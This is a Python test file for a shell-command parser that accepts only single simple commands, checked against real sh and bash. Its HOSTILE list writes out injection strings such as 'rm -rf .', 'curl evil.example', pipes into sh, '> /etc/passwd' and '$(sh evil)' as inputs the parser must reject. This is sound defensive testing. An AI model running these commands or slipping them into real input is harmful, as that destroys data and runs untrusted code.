"""A command line is one simple command whose words a real shell would see, or it is not simple."""

from __future__ import annotations

import subprocess
from typing import Final

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from casework.code.shell import COMMAND_LIMIT, RUNS_OTHERS, NotSimple, Simple, read_command

SHELLS: Final = ("sh", "bash")


def check(line: str, *words: str) -> None:
    assert read_command(line) == Simple(words)


@pytest.mark.parametrize(
    ("line", "words"),
    [
        ("npm install undici@7", ("npm", "install", "undici@7")),
        ("  npm\tinstall   x ", ("npm", "install", "x")),
        ("pip install 'foo>=1,<2' \"bar~=1.0\"", ("pip", "install", "foo>=1,<2", "bar~=1.0")),
        ("pip install foo~=1.0", ("pip", "install", "foo~=1.0")),
        ("git-lfs fetch a'b'\"c\"", ("git-lfs", "fetch", "abc")),
        ("curl -o out.txt packages.example:443/a", ("curl", "-o", "out.txt", "packages.example:443/a")),
        ("touch '' x", ("touch", "", "x")),
    ],
)
def test_words_are_what_they_are(line: str, words: tuple[str, ...]) -> None:
    check(line, *words)


HOSTILE: Final = (
    "npm install x; rm -rf .",
    "npm install x && curl evil.example",
    "npm install x || true",
    "npm install x | sh",
    "npm install x & sh",
    "npm install x\nsh evil",
    "npm install x\rsh evil",
    "npm install x > /etc/passwd",
    "npm install x < secrets",
    "npm install x 2>&1",
    "npm install $(sh evil)",
    "npm install `sh evil`",
    'npm install "$(sh evil)"',
    'npm install "`sh evil`"',
    "npm install $HOME",
    "npm install ${IFS}x",
    "npm install $'\\x41'",
    "npm install \\\nx",
    "npm install x\\;sh",
    "npm install *",
    "npm install x?",
    "npm install [a-z]",
    "npm install {a,b}",
    "npm install ~/x",
    "npm install ~root/x",
    "npm install --prefix=~/x",
    "npm install <(sh evil)",
    "npm install x #; harmless",
    "NODE_OPTIONS=--require=./evil npm install x",
    "PATH=. npm install x",
    "=npm install x",
    "npm install =sh",
    "env npm install x",
    "sudo npm install x",
    "xargs npm install",
    "sh -c 'npm install x'",
    "bash -c 'npm install x'",
    "busybox sh",
    "nice npm install x",
    "timeout 5 npm install x",
    "command npm install x",
    "exec npm install x",
    "eval npm install x",
    "find . -exec npm install x",
    "git -c core.sshCommand=evil fetch",
    "python -c 'import os'",
    "python3.12 evil.py",
    "node evil.js",
    "make install",
    "npm run evil",
    "npm exec evil",
    "yarn dlx evil",
    "go run evil.go",
    "./npm install x",
    "/usr/bin/npm install x",
    "../npm install x",
    "! npm install x",
    "if npm install x",
    "time npm install x",
    "{ npm install x",
    "( npm install x )",
    "npm() { sh; }",
    "npm install !!",
    'npm install "!!"',
    "npm install x\u00a0y",
    "npm install x\u2028y",
    "npm install x\uff1bsh",
    "npm install \u202ex",
    "n\u0440m install x",
    "npm install 'caf\u00e9'",
    "npm install x\0y",
    "npm install x\x1b[2K",
    "npm install 'x",
    'npm install "x',
    "npm install x\x0by",
    "",
    "   ",
    "''",
    "x" * (COMMAND_LIMIT + 1),
)


@pytest.mark.parametrize("line", HOSTILE, ids=repr)
def test_whatever_a_shell_would_do_more_with_is_not_simple(line: str) -> None:
    assert isinstance(read_command(line), NotSimple)


@pytest.mark.parametrize("program", sorted(RUNS_OTHERS))
def test_a_program_that_runs_others_is_never_simple(program: str) -> None:
    assert isinstance(read_command(f"{program} npm install x"), NotSimple)


_LETTERS: Final = st.sampled_from("ab1 .-_/=~:@%+,^'\"\\$`!;&|<>(){}[]*?#\t\n\r\0\u00e9\u2028\uff1b")
_LINES: Final = st.one_of(
    st.text(_LETTERS, max_size=12),
    st.lists(st.sampled_from(["a", "'b c'", '"d"', "-e", "f=g", "~", "a~b", "x:~y", "''", "@1"]), max_size=5).map(
        " ".join
    ),
    st.text(max_size=12),
)


@settings(max_examples=400, deadline=None)
@given(rest=_LINES)
@example(rest="x:~/y")
@example(rest="--x=~/y")
@example(rest="a ~")
@example(rest="''")
@example(rest="@(a|b)")
def test_the_words_are_those_that_real_shells_see(rest: str) -> None:
    """What is read as simple, a shell sees as the same words, whatever was made up."""
    read = read_command(f"printit {rest}")
    if isinstance(read, NotSimple):
        return
    for shell in SHELLS:
        told = subprocess.run(
            [shell, "-c", f'printit() {{ printf "%s\\0" "$@"; printf end; }}; printit {rest}'],
            capture_output=True, check=True, timeout=10, cwd="/",
        )  # fmt: skip
        seen = told.stdout.decode().split("\0")[:-1]
        assert [word for word in seen if word or len(read.words) > 1] == list(read.words[1:])
